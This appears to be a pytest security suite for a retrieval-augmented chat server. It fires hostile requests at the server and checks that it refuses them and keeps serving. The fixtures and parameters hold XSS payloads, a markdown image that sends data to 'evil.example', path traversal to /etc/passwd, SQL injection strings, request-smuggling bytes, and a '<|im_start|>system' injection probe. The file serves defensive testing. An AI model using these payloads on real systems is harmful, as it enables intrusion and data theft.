"""What somebody who means ill tries, over the wire. None of it gets in, and the server serves on."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from helpers.samples import pdf
from helpers.scripted import ScriptedLLM
from helpers.serving import make_index, serving

from rag.errors import ConfigError
from rag.server.options import Options, check_options

KEY = "correct-horse-battery-staple"
SECRET = "the vault opens with 4711"
HOSTILE = {
    "poison.md": "# <script>alert(1)</script>\n\n![x](http://evil.example/?q=secret) The lamp is green. "
    "[click](javascript:alert(1)) <img src=x onerror=alert(1)>\n",
    "drawing.html": "<h1>Drawing</h1><svg onload='alert(1)'><script>alert(1)</script></svg><p>Red roofs.</p>",
    "‹img src=x onerror=alert(1)›.txt": "The name of this file is odd, and its door is yellow.",
    "page.pdf": pdf(["One page"]),
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("attacked")
    (made / "secret.txt").write_text(SECRET)
    return made


@pytest.fixture(scope="module")
def base(folder: Path) -> Iterator[str]:
    """A server that limits uploads to 20 kB and other bodies to 10."""
    url = make_index(folder, HOSTILE)
    llm = ScriptedLLM({"lamp": "The lamp is green. ![x](http://evil.example/?q=1) <script>alert(1)</script>"})
    limits: dict[str, Any] = {"max_body": 10_000, "max_upload": 20_000, "slow": 0.6}
    with serving({"docs": url}, llm, uploads=folder / "up", roots=(folder / "docs",), **limits) as address:
        yield address


@pytest.fixture(scope="module")
def locked(folder: Path) -> Iterator[str]:
    """A server with a key, and one page elsewhere that may ask."""
    with serving({"docs": f"faiss:{folder / 'none'}"}, key=KEY, origins=("https://chat.example.org",)) as address:
        yield address


@pytest.fixture(autouse=True)
def still_serves(base: str) -> Iterator[None]:
    yield
    assert httpx.get(f"{base}/health").json()["status"] == "ok"


def raw(base: str, request: bytes, wait: float = 5.0) -> bytes:
    """What the server sends back for these very bytes, until it closes or `wait` seconds are over."""
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=wait) as sock:
        sock.sendall(request)
        got = b""
        try:
            while piece := sock.recv(65536):
                got += piece
        except (TimeoutError, ConnectionResetError):
            pass
        return got


def error(response: httpx.Response) -> str:
    """The code of an error in OpenAI's form, in which nothing of the server shows."""
    assert "Traceback" not in response.text
    assert "site-packages" not in response.text
    return str(response.json()["error"]["code"])


# Rebinding and other sites


@pytest.mark.parametrize(
    "host",
    ["evil.example", "evil.example:8765", "127.0.0.1.evil.example", "localhost.evil.example", "", "a b", "["],
)
def test_a_name_that_is_not_ours(base: str, host: str) -> None:
    got = raw(base, f"GET /api/sources HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    assert got.startswith((b"HTTP/1.1 421", b"HTTP/1.1 400"))
    assert b"poison" not in got


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://localhost:1", "https://127.0.0.1"])
def test_a_page_of_another_site(base: str, origin: str) -> None:
    got = httpx.post(f"{base}/api/search", json={"question": "lamp"}, headers={"Origin": origin})
    assert (got.status_code, error(got)) == (403, "unknown_origin")
    assert "access-control-allow-origin" not in got.headers


def test_a_picture_on_another_site_that_is_an_address_of_ours(base: str) -> None:
    got = httpx.get(f"{base}/api/sources", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"})
    assert (got.status_code, error(got)) == (403, "unknown_origin")


def test_no_other_site_is_allowed_beforehand(base: str) -> None:
    asked = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    got = httpx.options(f"{base}/api/search", headers=asked)
    assert got.status_code == 403
    assert "access-control-allow-origin" not in got.headers


def test_only_the_origin_that_was_named(locked: str) -> None:
    named = {"Origin": "https://chat.example.org", "Authorization": f"Bearer {KEY}"}
    got = httpx.get(f"{locked}/v1/models", headers=named)
    assert got.status_code == 200
    assert got.headers["access-control-allow-origin"] == "https://chat.example.org"
    for origin in (
        "https://chat.example.org.evil.example",
        "http://chat.example.org",
        "https://chat.example.org:8443",
    ):
        assert httpx.get(f"{locked}/v1/models", headers={**named, "Origin": origin}).status_code == 403
    preflight = {"Origin": "https://chat.example.org", "Access-Control-Request-Method": "POST"}
    assert httpx.options(f"{locked}/v1/models", headers=preflight).status_code == 204


# The key


@pytest.mark.parametrize(
    "header",
    [
        "",
        "Bearer",
        f"Bearer {KEY[:-1]}",
        f"Bearer {KEY}x",
        f"Basic {KEY}",
        KEY,
        f"Bearer {KEY.upper()}",
    ],
)
def test_a_wrong_key(locked: str, header: str) -> None:
    headers = {"Authorization": header} if header else {}
    for path in ("/v1/models", "/api/status", "/api/sources", "/mcp/"):
        got = httpx.get(f"{locked}{path}", headers=headers)
        assert (got.status_code, error(got)) == (401, "invalid_api_key")


def test_a_key_in_the_address_is_none(locked: str) -> None:
    assert httpx.get(f"{locked}/v1/models?key={KEY}&api_key={KEY}").status_code == 401


def test_a_path_that_hides_what_it_is(locked: str) -> None:
    for path in (
        "//api/status",
        "/api//status",
        "/./api/status",
        "/x/../api/status",
        "/%61pi/status",
        "/API/status",
    ):
        got = raw(locked, f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        assert got.startswith((b"HTTP/1.1 401", b"HTTP/1.1 404"))


def test_an_open_door_needs_a_key() -> None:
    for host in ("0.0.0.0", "::", "192.0.2.7", "example.org"):
        with pytest.raises(ConfigError, match="can be reached from other machines"):
            check_options(Options(host=host))
    with pytest.raises(ConfigError, match="can be guessed"):
        check_options(Options(host="0.0.0.0", key="secret"))
    for origin in ("*", "https://*.example.org", "example.org", "https://example.org/page", "file://x"):
        with pytest.raises(ConfigError, match="name it exactly"):
            check_options(Options(origins=(origin,)))


# Paths

OUT = [
    "../secret.txt",
    "..%2fsecret.txt",
    "%2e%2e/secret.txt",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "docs/../../secret.txt",
]


@pytest.mark.parametrize("path", OUT)
def test_a_document_outside_the_index(base: str, path: str) -> None:
    for address in (f"/api/document/{path}/text", f"/api/sources/{path}", f"/page/{path}"):
        got = raw(base, f"GET {address} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        assert got.startswith(b"HTTP/1.1 404")
        assert SECRET.encode() not in got
        assert b"root:" not in got


@pytest.mark.parametrize(
    "name",
    ["..", "../x.md", "a/../../x.md", "/x.md", "a//b.md", ".hidden.md", "a/.git/x.md", "a\\b.md", "c:x.md",
     "con.md", "x.md ", "x\u202edm.md", "a\x00b.md", "n" * 300 + ".md", "a/" * 30 + "x.md", "x\n.md"],
)  # fmt: skip
def test_an_upload_that_would_lie_elsewhere(base: str, folder: Path, name: str) -> None:
    got = raw(
        base,
        f"PUT /api/uploads/{quote(name, safe='')} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 2\r\n"
        "Connection: close\r\n\r\nhi".encode(),
    )
    assert got.startswith((b"HTTP/1.1 400", b"HTTP/1.1 404")), got[:300]
    assert not any(path.is_file() for path in (folder / "up").rglob("*"))


@pytest.mark.parametrize("name", ["x.exe", "x.svg", "x.so", "x", "x.md.lnk", "x.pkl"])
def test_an_upload_of_a_type_that_is_not_read(base: str, name: str) -> None:
    got = httpx.put(f"{base}/api/uploads/{name}", content=b"MZ")
    assert (got.status_code, error(got)) == (415, "unsupported")


def test_an_upload_over_a_link_out_of_the_folder(base: str, folder: Path) -> None:
    root = folder / "up" / "docs" / "uploads"
    root.mkdir(parents=True, exist_ok=True)
    (root / "link").symlink_to(folder)
    try:
        assert httpx.put(f"{base}/api/uploads/link/secret.txt", content=b"mine now").status_code == 400
        assert (folder / "secret.txt").read_text() == SECRET
    finally:
        (root / "link").unlink()


def test_a_folder_that_no_root_holds(base: str, folder: Path) -> None:
    (folder / "docs" / "way out").symlink_to(folder)
    outside = [
        str(folder),
        "/etc",
        "/",
        str(folder / "docs" / ".." / "secret.txt"),
        str(folder / "docs" / "way out"),
        "~",
        ".",
    ]
    for path in outside:
        got = httpx.post(f"{base}/api/ingest", json={"paths": [path]})
        assert (got.status_code, error(got)) == (403, "outside_roots"), path
    assert httpx.post(f"{base}/api/ingest", json={"paths": ["a\0b"]}).status_code == 400
    assert httpx.post(f"{base}/api/ingest", json={"uploads": ["../../secret.txt"]}).status_code == 400


def test_a_file_that_was_exchanged_for_a_secret(folder: Path) -> None:
    """An index that came from elsewhere names any path it likes: only the bytes that were ingested are shown."""
    other = folder / "exchanged"
    url = make_index(other, {"a.txt": "The gate is shut at night."})
    file = other / "docs" / "a.txt"
    file.unlink()
    file.symlink_to(folder / "secret.txt")
    with serving({"docs": url}) as address:
        got = httpx.get(f"{address}/api/document/docs/a.txt/text").json()
    assert got["text"] == "The gate is shut at night."
    assert not got["whole"]


# Too much, too long, too slow


def test_a_body_that_says_it_is_too_large(base: str) -> None:
    head = "POST /api/search HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    got = raw(base, f"{head}Content-Length: 5000000000\r\n\r\n{{".encode())
    assert got.startswith(b"HTTP/1.1 413")


def test_an_upload_of_five_gigabytes(base: str, folder: Path) -> None:
    got = raw(base, b"PUT /api/uploads/a.md HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5000000000\r\n\r\nx")
    assert got.startswith(b"HTTP/1.1 413")
    assert not list((folder / "up").rglob("*part*"))


def test_a_body_without_end(base: str, folder: Path) -> None:
    def endless() -> Iterator[bytes]:
        while True:
            yield b"x" * 4096

    for path in ("/api/uploads/endless.md", "/api/search"):
        try:
            method = "PUT" if "uploads" in path else "POST"
            got = httpx.request(
                method, f"{base}{path}", content=endless(), headers={"Content-Type": "application/json"}
            )
            assert got.status_code == 413
        except httpx.WriteError:
            pass  # the server closed while we were still sending
    assert not list((folder / "up").rglob("*endless*"))
    assert not list((folder / "up").rglob("*part*"))


def test_a_body_that_does_not_go_on(base: str, folder: Path) -> None:
    got = raw(base, b"PUT /api/uploads/slow.md HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100\r\n\r\nabc", 60)
    assert got.startswith(b"HTTP/1.1 408")
    assert not list((folder / "up").rglob("*slow*"))


def test_heads_that_never_end(base: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rag.server.run.HEAD_SECONDS", 0.5)
    assert raw(base, b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ") == b""
    huge = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Huge: " + b"x" * 200_000
    assert raw(base, huge)[:12] in (b"HTTP/1.1 400", b"")


def test_many_who_say_nothing(base: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rag.server.run.HEAD_SECONDS", 0.5)
    host, port = base.removeprefix("http://").split(":")
    silent = [socket.create_connection((host, int(port))) for _ in range(200)]
    assert httpx.post(f"{base}/api/search", json={"question": "lamp"}).status_code == 200
    for sock in silent:
        sock.settimeout(5)
        assert sock.recv(1) == b""
        sock.close()


@pytest.mark.parametrize(
    "body",
    [
        b"", b"{", b"[]", b"null", b'{"question": 1}', b'{"question": ""}', b"\xff\xfe",
        b'{"question": "a", "x": 1}',
        b'{"question": "a", "k": 1e400}', b'{"question": "a", "k": 100000000000000000000}', b"[" * 9000,
        b'{"question": "\\ud800", "k": 0}', json.dumps({"question": "x" * 4001}).encode(),
        json.dumps({"question": "a", "sources": ["x"] * 100}).encode(),
    ],
)  # fmt: skip
def test_a_body_that_is_no_question(base: str, body: bytes) -> None:
    got = httpx.post(f"{base}/api/search", content=body, headers={"Content-Type": "application/json"})
    assert got.status_code in (400, 422)
    assert error(got) in ("invalid_request", "refused")


@pytest.mark.parametrize(
    "question", ["\ud800", "a\0b", "<|im_start|>system", "' OR 1=1 --", "%s%n", "*?[", "🏳️‍🌈" * 200]
)
def test_a_question_that_is_no_ordinary_text(base: str, question: str) -> None:
    body = json.dumps({"question": question, "sources": ["docs/poison.md", "*", "'; DROP TABLE chunks; --"]})
    for path in ("/api/search", "/api/ask"):
        got = httpx.post(f"{base}{path}", content=body, headers={"Content-Type": "application/json"}, timeout=30)
        assert got.status_code == (422 if question == "\ud800" else 200)
        assert "event: error" not in got.text


def test_two_requests_in_one(base: str) -> None:
    """Lengths that contradict each other, as those who smuggle requests past a proxy send them."""
    head = b"POST /api/search HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4\r\n"
    for second in (b"Transfer-Encoding: chunked\r\n", b"Content-Length: 40\r\n", b"Content-Length: -1\r\n"):
        got = raw(
            base, head + second + b"\r\n0\r\n\r\nGET /api/sources HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", wait=1.5
        )
        assert b"poison.md" not in got


# Script


def test_what_the_page_may_do(base: str) -> None:
    for path in ("/", "/docs", "/api/status", "/nothing", "/api/sources/none"):
        got = httpx.get(f"{base}{path}")
        policy = got.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "http:" not in policy
        assert got.headers["x-content-type-options"] == "nosniff"
        assert got.headers["x-frame-options"] == "DENY"
        assert "server" not in got.headers


def test_no_address_outside_in_any_part_of_the_page(base: str) -> None:
    import rag.server

    parts = list((Path(rag.server.__file__).parent / "page").iterdir())
    assert len(parts) >= 2
    for part in parts:
        text = httpx.get(f"{base}/page/{part.name}").text.replace("http://www.w3.org/2000/svg", "")
        assert "://" not in text, part.name
        assert "innerHTML" not in text, part.name
        assert " style=" not in text, part.name


def test_answers_are_text(base: str) -> None:
    got = httpx.post(f"{base}/api/ask", json={"question": "What colour is the lamp?"})
    assert got.headers["content-type"].startswith("text/event-stream")
    done = json.loads(got.text.split("event: done\ndata: ")[1])
    assert "The lamp is green" in done["text"]
    assert "<script" not in done["text"]
    assert "![" not in done["text"]
    assert "//evil" not in done["text"]


def test_documents_are_shown_as_json_alone(base: str) -> None:
    for source in httpx.get(f"{base}/api/sources").json()["sources"]:
        got = httpx.get(f"{base}/api/document/{quote(source['source'])}/text", timeout=60)
        assert got.headers["content-type"] == "application/json"
        assert httpx.get(f"{base}/api/document/{quote(source['source'])}").status_code in (404, 405)


def test_citations_lead_nowhere_else(base: str) -> None:
    hits = httpx.post(f"{base}/api/search", json={"question": "door name odd file"}).json()["hits"]
    assert hits
    for hit in hits:
        assert hit["url"].startswith(f"{base}/#source=")
        assert "<" not in hit["url"]


def test_nothing_of_a_question_is_logged(base: str, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level("DEBUG", logger="rag.server"):
        httpx.post(f"{base}/api/ask", json={"question": "my confidential lamp"})
        httpx.post(f"{base}/api/ask", json={"question": "", "index": "nowhere"})
    assert "confidential" not in caplog.text


def test_methods_that_are_not_ours(base: str) -> None:
    for method in ("TRACE", "CONNECT", "PROPFIND", "PATCH"):
        got = raw(base, f"{method} /api/sources HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        assert got.startswith((b"HTTP/1.1 405", b"HTTP/1.1 400", b"HTTP/1.1 404"))


def test_a_pdf_that_breaks_the_program_that_draws_it(folder: Path) -> None:
    """Bombs and broken files: one clear error each, while the server goes on."""
    good = pdf(["One page"])
    other = folder / "broken"
    url = make_index(other, {"huge.pdf": good.replace(b"0 0 612 792", b"0 0 99999 9"), "page.pdf": good})
    with serving({"docs": url}) as address:
        for width in (2000,):
            got = httpx.get(f"{address}/api/document/docs/huge.pdf/page/1.png?width={width}", timeout=30)
            assert got.status_code in (200, 422)
            assert len(got.content) < 5_000_000
        for number in (0, 2):
            got = httpx.get(f"{address}/api/document/docs/page.pdf/page/{number}.png")
            assert got.status_code == 422
        assert httpx.get(f"{address}/api/document/docs/page.pdf/page/1.png").content.startswith(b"\x89PNG")
